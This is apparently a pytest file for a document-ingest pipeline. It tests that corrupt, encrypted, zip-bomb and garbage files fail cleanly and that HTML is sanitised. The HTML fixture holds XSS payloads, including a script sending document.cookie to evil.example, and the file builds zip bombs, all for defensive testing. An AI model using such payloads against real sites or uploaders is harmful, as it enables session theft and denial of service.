"""Bad input: each gets status "failed" with a reason a user can act on, the rest of the batch
goes on, and nothing of the failed input is stored (no item, file, band or blob)."""

from __future__ import annotations

import io
import zipfile

import pytest

from ssehub.library.ingest import inputs
from ssehub.library.ingest.pipeline import Options, ingest, ingest_one
from ssehub.library.models import Item

from . import factories as f

pytestmark = pytest.mark.django_db

NOTHING = {"items": 0, "files": 0, "bands": 0, "versions": 0, "blobs": 0}


def one(data: bytes, filename: str):
    return ingest_one(inputs.from_bytes(data, filename), Options())


def assert_failed(result, *fragments: str):
    assert result.status == "failed", result
    assert result.id is None
    for fragment in fragments:
        assert fragment in result.reason, result.reason


def test_truncated_pdf(stored):
    data = f.pdf(f.REPORT_A)
    assert_failed(one(data[: len(data) // 3], "truncated.pdf"), "PDF")
    assert stored() == NOTHING


def test_garbled_pdf(stored):
    data = bytearray(f.pdf(f.REPORT_A))
    for i in range(200, len(data) - 100, 7):  # keep the header, scramble the rest
        data[i] = (data[i] * 31 + 17) % 256
    result = one(bytes(data), "garbled.pdf")
    assert_failed(result, "PDF")
    assert stored() == NOTHING


def test_pdf_header_and_nothing_else(stored):
    assert_failed(one(b"%PDF-1.7\n%%EOF\n", "empty.pdf"), "corrupt PDF")
    assert stored() == NOTHING


def test_encrypted_pdf(stored):
    result = one(f.encrypted_pdf("s3cret"), "secret.pdf")
    assert_failed(result, "encrypted PDF", "password")
    assert stored() == NOTHING


def test_aes_encrypted_pdf_fails_cleanly_instead_of_crashing_the_batch(tmp_path, stored):
    """pypdf needs the optional cryptography package for AES; without it reading raised
    DependencyError, which no except clause caught, so the whole batch stopped."""
    folder = tmp_path / "batch"
    folder.mkdir()
    (folder / "a-restricted.pdf").write_bytes(f.aes_encrypted_pdf())
    (folder / "b-good.pdf").write_bytes(f.pdf(f.REPORT_B))
    first, second = ingest(inputs.expand([str(folder)]))
    try:
        import cryptography  # noqa: F401
    except ImportError:
        assert_failed(first, "encrypted PDF", "cryptography")
    else:  # with AES available, the rewritten (really RC4) content is unreadable
        assert first.status == "failed" and "PDF" in first.reason
    assert second.status == "created", second.reason
    assert stored()["items"] == 1


def test_encrypted_pdf_with_an_empty_user_password_is_read():
    """Owner-password-only PDFs (print/copy restrictions) open without a password."""
    result = one(f.encrypted_pdf(""), "restricted.pdf")
    assert result.status == "created", result.reason


def test_zero_byte_file(tmp_path, stored):
    path = tmp_path / "empty.pdf"
    path.write_bytes(b"")
    [result] = ingest(inputs.expand([str(path)]))
    assert_failed(result, "empty file (0 bytes)")
    assert stored() == NOTHING


def test_white_space_only_text(stored):
    assert_failed(one(b" \n\t\r\n   \n", "blank.txt"), "only white space")
    assert stored() == NOTHING


def test_file_over_the_size_limit_is_refused_before_reading(settings, tmp_path, stored):
    settings.SSEHUB_MAX_FILE_BYTES = 1000
    path = tmp_path / "big.pdf"
    path.write_bytes(f.pdf(f.REPORT_A))
    [result] = ingest(inputs.expand([str(path)]))
    assert_failed(result, "over the size limit of 1,000", "SSEHUB_MAX_FILE_BYTES")
    # An upload held in memory is refused the same way.
    assert_failed(one(path.read_bytes(), "big.pdf"), "over the size limit of 1,000")
    assert stored() == NOTHING


def test_docx_zip_bomb(settings, stored):
    settings.SSEHUB_MAX_UNZIPPED_BYTES = 2_000_000
    bomb = f.zip_bomb_docx(20_000_000)
    assert len(bomb) < 100_000  # small on disk, huge unpacked
    result = one(bomb, "report.docx")
    assert_failed(result, "zip bomb", "2,000,000")
    assert stored() == NOTHING


def _lie_about_size(data: bytes, member: str, size: int) -> bytes:
    """Rewrite the uncompressed size a zip declares for ``member`` (local and central headers)."""
    out = bytearray(data)
    name = member.encode()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(member)
    out[info.header_offset + 22 : info.header_offset + 26] = size.to_bytes(4, "little")
    central = out.find(b"PK\x01\x02")
    while central != -1:
        name_len = int.from_bytes(out[central + 28 : central + 30], "little")
        if out[central + 46 : central + 46 + name_len] == name:
            out[central + 24 : central + 28] = size.to_bytes(4, "little")
            return bytes(out)
        central = out.find(b"PK\x01\x02", central + 4)
    raise AssertionError(f"{member} not found in the central directory")


def test_docx_bomb_whose_headers_lie_about_its_size(settings, stored):
    """The limit is checked on declared sizes; a member that inflates past what it declares
    is cut off by zipfile (CRC error), so it fails as corrupt instead of filling memory."""
    settings.SSEHUB_MAX_UNZIPPED_BYTES = 2_000_000
    base = f.docx(["A title that is long enough", "A paragraph."])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(
        out, "w", zipfile.ZIP_DEFLATED
    ) as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename == "word/document.xml":
                body = body.replace(b"</w:body>", b" " * 20_000_000 + b"</w:body>")
            dst.writestr(info.filename, body)
    liar = _lie_about_size(out.getvalue(), "word/document.xml", 1000)
    result = one(liar, "liar.docx")
    assert_failed(result, "corrupt DOCX")
    assert stored() == NOTHING


def test_zip_that_is_not_a_docx(stored):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("data.csv", "a,b\n1,2\n")
    assert_failed(one(out.getvalue(), "report.docx"), "unsupported content", "not a DOCX")
    assert stored() == NOTHING


def test_corrupt_docx(stored):
    data = f.docx(f.REPORT_A)
    assert_failed(one(data[: len(data) // 2], "cut.docx"), "DOCX")
    assert stored() == NOTHING


SCRIPTED = (
    b"<!DOCTYPE html><html><head><title>Cooperative housing report</title>"
    b"<script>document.location='https://evil.example/?c='+document.cookie</script>"
    b"<style>body{background:url(javascript:alert(1))}</style></head>"
    b"<body onload=\"alert('onload')\"><h1 onclick=\"alert('h1')\">Cooperative housing report</h1>"
    b"<script type=\"text/javascript\">var stolen = document.cookie; fetch('/x?'+stolen);</script>"
    b"<p onmouseover=\"alert('p')\">" + f.ENGLISH.encode() + b"</p>"
    b"<img src=x onerror=\"alert('img')\"><a href=\"javascript:alert('a')\">Read more</a>"
    b"<p>" + f.REPORT_A[1].encode() + b"</p>"
    b"<noscript><iframe src=\"https://evil.example\"></iframe></noscript>"
    b"<svg><script>alert('svg')</script></svg></body></html>"
)
SCRIPT_MARKERS = ("alert", "document.cookie", "<script", "javascript:", "onload", "onerror",
                  "onclick", "onmouseover", "stolen", "evil.example", "iframe")


def test_html_with_scripts_and_event_handlers_is_stored_without_them():
    result = one(SCRIPTED, "page.html")
    assert result.status == "created", result.reason
    item = Item.objects.get(pk=result.id)
    stored_text = " ".join([item.full_text, *item.title.values(), *item.abstract.values(),
                            item.files.get().text])
    assert "solidarity economy" in item.full_text
    assert item.display_title == "Cooperative housing report"
    for marker in SCRIPT_MARKERS:
        assert marker not in stored_text, marker


def test_script_inside_the_title_element_is_not_kept():
    page = (
        b"<html><head><title>Housing <script>alert(1)</script>co-ops</title></head><body>"
        b"<p>" + f.ENGLISH.encode() + b"</p></body></html>"
    )
    result = one(page, "page.html")
    assert result.status == "created", result.reason
    item = Item.objects.get(pk=result.id)
    assert item.display_title == "Housing co-ops"
    assert "alert" not in item.full_text


def test_cp1252_french_text_is_decoded_with_a_note():
    text = ("Les coopératives d'habitants à Genève\n\n" + f.FRENCH +
            " Œuvre collective, “solidarité” — l’été prochain : façade, naïf, où, garçon.")
    result = one(text.encode("cp1252"), "note.txt")
    assert result.status == "created", result.reason
    assert any("not UTF-8" in n and "cp1252" in n.lower().replace("windows-", "cp")
               for n in result.notes), result.notes
    item = Item.objects.get(pk=result.id)
    assert item.full_text == text.replace("\n\n", "\n\n")
    assert item.title == {"fr": "Les coopératives d'habitants à Genève"}
    assert item.languages == ["fr"]


def test_latin1_spanish_text_is_decoded_with_a_note():
    text = "La economía social en España\n\n" + f.SPANISH + " ¿Año de cooperación? ¡Sí, señor!"
    result = one(text.encode("latin-1"), "nota.txt")
    assert result.status == "created", result.reason
    assert any("not UTF-8" in n for n in result.notes), result.notes
    item = Item.objects.get(pk=result.id)
    assert "¿Año de cooperación? ¡Sí, señor!" in item.full_text
    assert item.languages == ["es"]


def test_html_named_pdf_is_read_as_html_with_a_note():
    result = one(f.html_page(f.REPORT_B), "report.pdf")
    assert result.status == "created", result.reason
    assert any(".pdf" in n and "HTML" in n for n in result.notes), result.notes
    item = Item.objects.get(pk=result.id)
    assert item.files.get().mime_type == "text/html"
    assert item.display_title == f.REPORT_B[0]


def test_pdf_named_txt_is_read_as_pdf_with_a_note():
    result = one(f.pdf(f.REPORT_A), "notes.txt")
    assert result.status == "created", result.reason
    assert any("PDF" in n for n in result.notes), result.notes


@pytest.mark.parametrize(
    "data",
    [
        f.garbage(4096),
        bytes(range(1, 256)) * 16,  # no NUL byte, all control and high bytes
        bytes(range(128, 256)) * 32,  # high bytes only: every 8-bit code page "decodes" it
    ],
    ids=["with-nul", "no-nul", "high-bytes"],
)
def test_binary_garbage_named_txt_is_unsupported(data, stored):
    result = one(data, "notes.txt")
    assert_failed(result, "unsupported content")
    assert stored() == NOTHING


@pytest.mark.parametrize(
    ("data", "what"),
    [
        (b"\x89PNG\r\n\x1a\n" + b"\0" * 64, "PNG image"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64, "legacy Microsoft Office"),
        (b"\x7fELF\x02\x01\x01" + b"\0" * 64, "executable"),
    ],
)
def test_known_non_documents_say_what_they_are(data, what, stored):
    assert_failed(one(data, "report.pdf"), "unsupported content", what)
    assert stored() == NOTHING


def test_a_batch_goes_on_after_every_kind_of_failure(tmp_path, settings, stored):
    settings.SSEHUB_MAX_UNZIPPED_BYTES = 2_000_000
    folder = tmp_path / "batch"
    folder.mkdir()
    good = {
        "01-good.pdf": f.pdf(f.REPORT_A),
        "05-good.docx": f.docx(f.REPORT_B),
        "09-good.txt": ("Une note\n\n" + f.FRENCH).encode("cp1252"),
    }
    bad = {
        "02-cut.pdf": f.pdf(f.REPORT_C)[:500],
        "03-secret.pdf": f.encrypted_pdf(),
        "04-empty.txt": b"",
        "06-bomb.docx": f.zip_bomb_docx(20_000_000),
        "07-garbage.txt": f.garbage(),
        "08-image.pdf": b"\x89PNG\r\n\x1a\n" + b"\0" * 64,
    }
    for name, data in {**good, **bad}.items():
        (folder / name).write_bytes(data)
    results = {r.input.rsplit("/", 1)[-1]: r for r in ingest(inputs.expand([str(folder)]))}
    assert sorted(results) == sorted({**good, **bad})
    for name in good:
        assert results[name].status == "created", (name, results[name].reason)
    for name in bad:
        assert results[name].status == "failed" and results[name].reason, name
    assert stored() == {"items": 3, "files": 3, "bands": 96, "versions": 3, "blobs": 3}
